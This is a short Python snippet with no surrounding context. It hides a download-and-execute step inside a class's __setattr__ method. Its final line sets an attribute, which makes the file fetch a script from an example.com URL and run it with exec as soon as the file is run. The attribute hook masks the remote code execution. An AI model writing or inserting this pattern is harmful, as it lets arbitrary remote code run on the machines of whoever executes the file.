import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __setattr__(self, name, value):
        _go()


A().x = 1
